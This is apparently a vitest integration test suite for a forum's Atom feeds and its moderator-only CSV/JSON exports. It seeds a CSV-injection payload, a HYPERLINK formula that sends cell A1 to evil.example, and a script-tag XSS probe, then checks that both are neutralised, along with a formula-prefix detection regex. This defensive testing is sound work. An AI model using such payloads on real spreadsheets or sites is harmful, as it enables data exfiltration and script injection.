/**
 * Over a socket: a discussion's and a campaign's Atom feeds carry only what is
 * published, as valid Atom; moderators download the discussion as CSV that a
 * spreadsheet opens safely, and as JSON; no one else can.
 */
import { describe, expect, it } from 'vitest';
import type { DiscussionExport } from '../../src/api/contract';
import { parseCsv } from '../../src/lib/csv';
import {
  ENGINES,
  type EngineName,
  MODERATOR,
  PARTICIPANT,
  SLUG,
  startOn,
  tempDir,
} from './harness';

const ATOM = 'http://www.w3.org/2005/Atom';
const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click for #HeForShe")';
const AWKWARD = 'Budgets, "quotes" and\nnew lines for #HeForShe';
const SCRIPT = 'Look <script>alert(1)</script> at #HeForShe';

type Visitor = ReturnType<Awaited<ReturnType<typeof startOn>>['visitor']>;

async function post(v: Visitor, body: string): Promise<string> {
  const answer = await v.call(`/api/discussions/${SLUG}/comments`, { json: { body } });
  expect(answer.status).toBe(201);
  return ((await answer.json()) as { id: string }).id;
}

async function decide(moderator: Visitor, id: string, action: 'approve' | 'reject' | 'hide') {
  const answer = await moderator.call('/api/moderation/decisions', {
    json: {
      kind: 'comment',
      id,
      action,
      expectedStatus: action === 'hide' ? 'published' : 'pending',
      ...(action === 'approve' ? {} : { reason: 'Off topic for this discussion.' }),
    },
  });
  expect(answer.status).toBe(200);
}

/** A forum where Amina wrote six comments: three approved, one hidden after, one rejected, one waiting. */
async function forum(engine: EngineName) {
  const { server, visitor } = await startOn(tempDir(), { engine });
  const amina = visitor();
  await amina.signIn(PARTICIPANT);
  const moderator = visitor();
  await moderator.signIn(MODERATOR);
  const ids = {
    formula: await post(amina, FORMULA),
    awkward: await post(amina, AWKWARD),
    script: await post(amina, SCRIPT),
    rejected: await post(amina, 'Buy cheap followers now at #HeForShe'),
    pending: await post(amina, 'Still waiting for a moderator at #HeForShe'),
    hidden: await post(amina, 'Published, then hidden at #HeForShe'),
  };
  for (const id of [ids.formula, ids.awkward, ids.script, ids.hidden]) {
    await decide(moderator, id, 'approve');
  }
  await decide(moderator, ids.rejected, 'reject');
  await decide(moderator, ids.hidden, 'hide');
  return { server, visitor, amina, moderator, ids };
}

// jsdom ships no types: what this file uses of it is its XML parser.
// @ts-expect-error -- no declaration file for jsdom
const { JSDOM } = (await import('jsdom')) as unknown as {
  JSDOM: new (html: string) => { window: { DOMParser: typeof DOMParser } };
};

function parseXml(text: string): Document {
  const doc = new new JSDOM('').window.DOMParser().parseFromString(text, 'application/xml');
  expect(doc.getElementsByTagName('parsererror')).toHaveLength(0);
  return doc;
}

const child = (el: Element, name: string) =>
  Array.from(el.children).find((c) => c.localName === name && c.namespaceURI === ATOM);

/** What RFC 4287 asks of a feed and of each entry, and the entries' links. */
function checkAtom(doc: Document): string[] {
  const feed = doc.documentElement;
  expect(feed.localName).toBe('feed');
  expect(feed.namespaceURI).toBe(ATOM);
  for (const name of ['id', 'title', 'updated'])
    expect(child(feed, name)?.textContent).toBeTruthy();
  const entries = Array.from(feed.children).filter((c) => c.localName === 'entry');
  expect(entries.length).toBeGreaterThan(0);
  return entries.map((entry) => {
    for (const name of ['id', 'title', 'updated']) {
      expect(child(entry, name)?.textContent).toBeTruthy();
    }
    expect(Number.isNaN(Date.parse(child(entry, 'updated')?.textContent ?? ''))).toBe(false);
    // Every entry names its author, or the feed does for all.
    expect(child(entry, 'author') ?? child(feed, 'author')).toBeTruthy();
    const href = child(entry, 'link')?.getAttribute('href') ?? '';
    expect(href).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/discussions\//);
    return child(entry, 'content')?.textContent ?? '';
  });
}

describe.each(ENGINES)('on %s', { timeout: 30_000 }, (engine) => {
  describe('Atom feeds', () => {
    it('carry the published comments and resources, newest first, and nothing else', async () => {
      const { server, visitor, ids } = await forum(engine);
      const reader = visitor();
      const answer = await reader.call(`/api/discussions/${SLUG}/feed.atom`);
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-type')).toBe('application/atom+xml; charset=utf-8');
      const text = await answer.text();
      const doc = parseXml(text);
      const contents = checkAtom(doc);

      const links = Array.from(doc.getElementsByTagNameNS(ATOM, 'entry'), (e) =>
        child(e, 'link')?.getAttribute('href'),
      );
      // The newest first: the last approved comment leads.
      expect(links[0]).toBe(`${server.url}/discussions/${SLUG}/comments/${ids.script}`);
      expect(links).toContain(`${server.url}/discussions/${SLUG}/comments/${ids.formula}`);
      expect(links.some((l) => l?.includes('/resources#'))).toBe(true);
      expect(text).not.toContain(ids.rejected);
      expect(text).not.toContain(ids.pending);
      expect(text).not.toContain('Buy cheap followers');
      expect(text).not.toContain('Still waiting');
      expect(text).not.toContain(ids.hidden);
      expect(text).not.toContain('then hidden');

      // The script is text in the entry, escaped: never an element a reader would run.
      const scripted = contents.find((c) => c.includes('alert(1)')) ?? '';
      expect(scripted).toContain('&lt;script&gt;');
      expect(scripted).not.toContain('<script');
      expect(doc.getElementsByTagName('script')).toHaveLength(0);
      // A feed reader lists entries by title (escaped, as it is HTML) and follows absolute links.
      const entry = doc.getElementsByTagNameNS(ATOM, 'entry')[0];
      expect(entry && child(entry, 'title')?.textContent).toBe(
        'Amina Diallo: Look &lt;script&gt;alert(1)&lt;/script&gt; at #HeForShe',
      );
      expect(scripted).toContain(`href="${server.url}/discussions/${SLUG}/campaigns/heforshe"`);
      const author = doc
        .getElementsByTagNameNS(ATOM, 'entry')[0]
        ?.getElementsByTagNameNS(ATOM, 'name');
      expect(author?.[0]?.textContent).toMatch(/^Amina Diallo/);

      // The same feed again is a 304 by its ETag.
      const etag = answer.headers.get('etag') ?? '';
      const again = await reader.call(`/api/discussions/${SLUG}/feed.atom`, {
        headers: { 'If-None-Match': etag },
      });
      expect(again.status).toBe(304);
    });

    it('has one per campaign, of the published comments that mention it', async () => {
      const { visitor, ids } = await forum(engine);
      const answer = await visitor().call(`/api/discussions/${SLUG}/campaigns/heforshe/feed.atom`);
      expect(answer.status).toBe(200);
      const text = await answer.text();
      const doc = parseXml(text);
      checkAtom(doc);
      expect(child(doc.documentElement, 'title')?.textContent).toMatch(/^#HeForShe · /);
      for (const id of [ids.formula, ids.awkward, ids.script]) expect(text).toContain(id);
      expect(text).not.toContain(ids.rejected);
      expect(text).not.toContain(ids.pending);
      expect(text).not.toContain(ids.hidden);
    });

    it('answers 404 in the error shape for an unknown discussion or campaign', async () => {
      const { visitor } = await startOn(tempDir(), { engine });
      const reader = visitor();
      for (const path of [
        '/api/discussions/no-such-discussion/feed.atom',
        `/api/discussions/${SLUG}/campaigns/nosuchcampaign/feed.atom`,
      ]) {
        const answer = await reader.call(path);
        expect(answer.status).toBe(404);
        const body = (await answer.json()) as { error: { code: string; message: string } };
        expect(body.error.code).toBe('not_found');
        expect(body.error.message).toMatch(/was not found/);
      }
    });
  });

  describe('Export for organisers', () => {
    it('gives comments as CSV with a BOM, CRLF, RFC 4180 quoting and formulas neutralised', async () => {
      const { moderator, ids } = await forum(engine);
      const answer = await moderator.call(`/api/discussions/${SLUG}/export/comments.csv`);
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(answer.headers.get('content-disposition')).toBe(
        `attachment; filename="${SLUG}-comments.csv"`,
      );
      const bytes = new Uint8Array(await answer.arrayBuffer());
      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
      expect(text.split('\r\n')[0]).toBe(
        '\uFEFFid,parent id,thread depth,author,organisation,status,created,edited,published text,campaigns',
      );
      // Records end in CRLF; a bare new line appears only inside a quoted cell.
      expect(/[^\r]\n/.test(text.replace(/"[^"]*"/g, ''))).toBe(false);

      const [header, ...rows] = parseCsv(text);
      expect(header).toHaveLength(10);
      const byId = new Map(rows.map((r) => [r[0], r]));
      const formula = byId.get(ids.formula);
      expect(formula?.[8]).toBe(`'${FORMULA}`);
      expect(formula?.[5]).toBe('published');
      expect(formula?.[3]).toBe('Amina Diallo');
      expect(formula?.[9]).toBe('#HeForShe');
      expect(byId.get(ids.awkward)?.[8]).toBe(AWKWARD);
      // For organisers: every entry with its status, the waiting and the rejected too.
      expect(byId.get(ids.rejected)?.[5]).toBe('rejected');
      expect(byId.get(ids.pending)?.[5]).toBe('pending');
      expect(rows.every((r) => r.length === 10)).toBe(true);
      // No cell starts as a formula would.
      expect(rows.flat().some((cell) => /^[=+\-@\t\r]/.test(cell))).toBe(false);
    });

    it('gives resources and campaigns as CSV, and everything as JSON', async () => {
      const { moderator, ids } = await forum(engine);
      const resources = await moderator.call(`/api/discussions/${SLUG}/export/resources.csv`);
      expect(resources.status).toBe(200);
      expect(resources.headers.get('content-disposition')).toBe(
        `attachment; filename="${SLUG}-resources.csv"`,
      );
      const [resourceHeader, ...resourceRows] = parseCsv(await resources.text());
      expect(resourceHeader).toEqual([
        'id',
        'title',
        'url',
        'kind',
        'description',
        'author',
        'organisation',
        'status',
        'created',
      ]);
      expect(resourceRows.length).toBeGreaterThan(0);

      const campaigns = await moderator.call(`/api/discussions/${SLUG}/export/campaigns.csv`);
      const [campaignHeader, ...campaignRows] = parseCsv(await campaigns.text());
      expect(campaignHeader).toEqual(['label', 'comments count', 'first mentioned']);
      const heForShe = campaignRows.find((r) => r[0] === 'HeForShe');
      expect(Number(heForShe?.[1])).toBeGreaterThanOrEqual(3);
      expect(Number.isNaN(Date.parse(heForShe?.[2] ?? ''))).toBe(false);

      const json = await moderator.call(`/api/discussions/${SLUG}/export.json`);
      expect(json.status).toBe(200);
      expect(json.headers.get('content-disposition')).toBe(
        `attachment; filename="${SLUG}-export.json"`,
      );
      const all = (await json.json()) as DiscussionExport;
      expect(all.discussion.slug).toBe(SLUG);
      const formula = all.comments.find((c) => c.id === ids.formula);
      // JSON carries the text as written: only the CSV guards against spreadsheets.
      expect(formula?.body).toBe(FORMULA);
      expect(all.comments.find((c) => c.id === ids.rejected)?.moderationReason).toBe(
        'Off topic for this discussion.',
      );
      expect(all.resources).toHaveLength(resourceRows.length);
      expect(all.campaigns.map((c) => c.label)).toContain('HeForShe');
    });

    it('is for moderators only: 401 for a visitor, 403 for a participant', async () => {
      const { visitor, amina } = await forum(engine);
      const files = [
        'export/comments.csv',
        'export/resources.csv',
        'export/campaigns.csv',
        'export.json',
      ];
      for (const file of files) {
        const anonymous = await visitor().call(`/api/discussions/${SLUG}/${file}`);
        expect(anonymous.status).toBe(401);
        expect(((await anonymous.json()) as { error: { code: string } }).error.code).toBe(
          'unauthenticated',
        );
        const participant = await amina.call(`/api/discussions/${SLUG}/${file}`);
        expect(participant.status).toBe(403);
        expect(((await participant.json()) as { error: { code: string } }).error.code).toBe(
          'forbidden',
        );
      }
    });
  });
});
